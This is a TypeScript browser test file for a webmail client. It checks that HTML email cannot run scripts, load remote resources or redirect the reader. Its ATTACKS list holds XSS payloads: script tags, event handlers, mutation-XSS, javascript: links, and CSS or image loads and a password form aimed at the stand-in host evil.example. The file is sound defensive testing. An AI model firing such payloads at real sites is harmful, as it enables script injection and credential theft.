/**
 * Proves that a hostile email runs nothing, loads nothing and leads nowhere by itself. docs/webmail-
 * html.md.
 */
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { upload } from '@casella/jmap';
import { Reader, startBrowser } from '../../../kit/test/browser.ts';
import { Outside } from './outside.ts';
import { clientOf, logIn, seed, startWorld, type World } from './world.ts';

let world: World;
let browser: Browser;
let reader: Reader;
let page: Page;
const outside = new Outside();

const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNsaGj4DwAFhgKAjM1mJgAAAABJRU5ErkJggg==',
  'base64',
);

beforeAll(async () => {
  world = await startWorld();
  browser = await startBrowser(await outside.listen());
});
beforeEach(async () => {
  reader = await Reader.arrive(browser);
  page = reader.page;
  outside.asked.length = 0;
});
afterEach(async () => {
  await reader.leave();
});
afterAll(async () => {
  await browser.close();
  outside.close();
  world.close();
});

async function open(subject: string): Promise<void> {
  await logIn(page, world);
  await page.locator('.mailrow a', { hasText: subject }).first().click();
  await page.getByRole('heading', { name: subject }).waitFor();
}

const html = (value: string) => ({
  htmlBody: [{ partId: 'h', type: 'text/html' }],
  bodyValues: { h: { value } },
});
const frame = () => page.frameLocator('iframe');

/** Each tries to set `window.top.hacked`, to load from `evil.example`, or to move the reader. */
const ATTACKS: [name: string, markup: string][] = [
  ['a script', '<script>top.hacked=1;fetch("https://evil.example/1")</script>'],
  ['a handler', '<img src=x onerror="top.hacked=1"><p onclick="top.hacked=1">x</p>'],
  ['an svg', '<svg onload="top.hacked=1"><script>top.hacked=1</script><image href="https://evil.example/2"/></svg>'],
  ['a mutation', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.hacked=1&gt;">'],
  ['a noscript', '<noscript><p title="</noscript><img src=x onerror=top.hacked=1>"></noscript>'],
  ['a frame', '<iframe src="https://evil.example/3"></iframe><object data="https://evil.example/4"></object>'],
  ['a nested document', '<iframe srcdoc="<script>top.hacked=1</script>"></iframe>'],
  ['a base and a refresh', '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/5">'],
  ['a stylesheet', '<link rel="stylesheet" href="https://evil.example/6.css"><style>@import url(https://evil.example/7.css);</style>'],
  ['style images', '<style>body{background:url(https://evil.example/8)}</style><p style="background:url(//evil.example/9)">x'],
  ['a font', '<style>@font-face{font-family:x;src:url(https://evil.example/10)}p{font-family:x}</style><p>x'],
  ['images of every kind', '<img src="https://evil.example/11"><img srcset="https://evil.example/12 1x"><picture><source srcset="https://evil.example/13"><img></picture><table background="https://evil.example/14"><tr><td>x</table><input type=image src="https://evil.example/15">'],
  ['media', '<video src="https://evil.example/16" poster="https://evil.example/17" autoplay></video><audio src="https://evil.example/18" autoplay></audio>'],
  ['a prefetch', '<link rel="dns-prefetch" href="//evil.example"><link rel="preload" as="image" href="https://evil.example/19">'],
  ['a form', '<form action="https://evil.example/20"><input name=password><button autofocus>go</button></form>'],
  ['our own address', '<img src="/auth/session"><img src="jmap/session"><link rel=stylesheet href="/brand">'],
  ['a broken tag', '<a href="https://evil.example/21" onmouseover="top.hacked=1"<b>x</a><img src="https://evil.example/22"'],
  ['a script link', '<a id="l" href="javascript:top.hacked=1">x</a><a href=" &#106;avascript:top.hacked=1">y</a><a href="data:text/html,<script>top.hacked=1</script>">z</a>'],
]; // prettier-ignore

describe('an email with', () => {
  test.each(ATTACKS)('%s does nothing', async (name, markup) => {
    const subject = `Attacco: ${name} ${Math.random().toString(36).slice(2, 8)}`;
    await seed(world, { subject, ...html(`<p>prima</p>${markup}<p>dopo</p>`) });
    const own: string[] = [];
    await open(subject);
    page.on('request', (request) => own.push(new URL(request.url()).pathname));
    await frame().getByText('prima').waitFor();
    await page.waitForTimeout(250);

    expect(outside.urls()).toEqual([]);
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(page.url().startsWith(world.url)).toBe(true);
    expect(own.filter((path) => path === '/auth/session' || path === '/brand')).toEqual([]);
    expect(reader.context.pages()).toHaveLength(1);
    expect(await frame().locator('script, form, input, iframe, object, link, base, svg, video').count()).toBe(
      0,
    );
    expect(await frame().locator('a[href^="javascript"], a[href^="data"]').count()).toBe(0);
  });
});

test('the frame is of no origin and may run nothing, whatever the cleaning let through', async () => {
  const subject = `Recinto ${Math.random().toString(36).slice(2, 8)}`;
  await seed(world, { subject, ...html('<p>testo</p>') });
  await open(subject);
  await frame().getByText('testo').waitFor();

  const sandbox = (await page.locator('iframe').getAttribute('sandbox')) ?? '';
  expect(sandbox.split(' ').sort()).toEqual(['allow-popups', 'allow-popups-to-escape-sandbox']);
  expect(await page.evaluate(() => document.querySelector('iframe')?.contentDocument ?? null)).toBeNull();
  const policy = await frame().locator('meta[http-equiv]').getAttribute('content');
  expect(policy).toContain("default-src 'none'; img-src data:;");

  // The walls behind the cleaning: markup that was never cleaned, in the same frame.
  await page.evaluate(() => {
    const bare = document.querySelector('iframe');
    if (bare)
      bare.srcdoc = `${bare.srcdoc}<img src=x onerror="top.hacked=1"><script>top.hacked=1</script>
      <img src="https://evil.example/a"><link rel=stylesheet href="https://evil.example/b"><p>sporco</p>`;
  });
  await frame().getByText('sporco').waitFor();
  await page.waitForTimeout(250);
  expect(outside.urls()).toEqual([]);
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
});

test('images from the internet come only when the reader says so', async () => {
  const subject = `Immagini ${Math.random().toString(36).slice(2, 8)}`;
  const markup =
    '<p>lettera</p><img id="r" src="https://img.example/a.png"><img src="http://other.example/b.png">';
  await seed(world, { subject, ...html(markup) });
  await open(subject);
  await frame().getByText('lettera').waitFor();
  expect(outside.urls()).toEqual([]);

  await page.getByRole('button', { name: 'Mostra le immagini' }).click();
  await expect.poll(() => outside.urls().sort()).toEqual(['https://img.example', 'https://other.example']);
  await page.getByRole('button', { name: 'Mostra le immagini' }).waitFor({ state: 'detached' });
});

test('images the email carries are shown without asking anybody', async () => {
  const subject = `Incorporata ${Math.random().toString(36).slice(2, 8)}`;
  const client = await clientOf(world);
  const { blobId } = await upload(client, new Blob([PIXEL], { type: 'image/png' }));
  await seed(world, {
    subject,
    ...html('<p>foto</p><img id="i" src="cid:foto@casa">'),
    attachments: [{ blobId, type: 'image/png', name: 'foto.png', disposition: 'inline', cid: 'foto@casa' }],
  });
  await open(subject);

  await frame().locator('#i[src], img[src^="data:image/png"]').first().waitFor();
  expect(await frame().locator('img').first().getAttribute('src')).toMatch(/^data:image\/png;base64,/);
  expect(await page.getByRole('list', { name: /allegat/ }).count()).toBe(0);
  expect(outside.urls()).toEqual([]);
});

test('links leave by a new tab that knows nothing of us', async () => {
  const subject = `Link ${Math.random().toString(36).slice(2, 8)}`;
  await seed(world, { subject, ...html('<a href="http://site.example/x">vai</a>') });
  await open(subject);

  const link = frame().getByText('vai');
  expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
  const [tab] = await Promise.all([reader.context.waitForEvent('page'), link.click()]);
  await tab.getByText('outside').waitFor();
  expect(tab.url()).toBe('http://site.example/x');
  expect(await tab.evaluate(() => [window.opener, document.referrer])).toEqual([null, '']);
  expect(outside.asked.filter(({ referer }) => referer?.startsWith(world.url))).toEqual([]);
});

test('plain text is shown as it is: markup stays text, addresses become links, quotations fold', async () => {
  const subject = `Testo ${Math.random().toString(36).slice(2, 8)}`;
  const value = '<b>non grassetto</b> https://site.example/a?b=1.\n> uno\n> due\n> tre\n> quattro\n';
  await seed(world, { subject, bodyValues: { t: { value } } });
  await open(subject);

  const body = page.getByRole('region', { name: 'Testo del messaggio' });
  await body.getByText('<b>non grassetto</b>').waitFor();
  expect(await body.getByRole('link').getAttribute('href')).toBe('https://site.example/a?b=1');
  await body.getByText('Mostra il testo citato').click();
  await body.getByText('> quattro').waitFor();
});

test('an attachment is downloaded under its name, never shown in our page', async () => {
  const subject = `Allegato ${Math.random().toString(36).slice(2, 8)}`;
  const client = await clientOf(world);
  const { blobId } = await upload(client, new Blob(['<script>top.hacked=1</script>'], { type: 'text/html' }));
  await seed(world, {
    subject,
    textBody: [{ partId: 't', type: 'text/plain' }],
    attachments: [{ blobId, type: 'text/html', name: 'pagina.html', disposition: 'attachment' }],
  });
  await open(subject);

  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('link', { name: 'Scarica pagina.html' }).click(),
  ]);
  expect(download.suggestedFilename()).toBe('pagina.html');
});
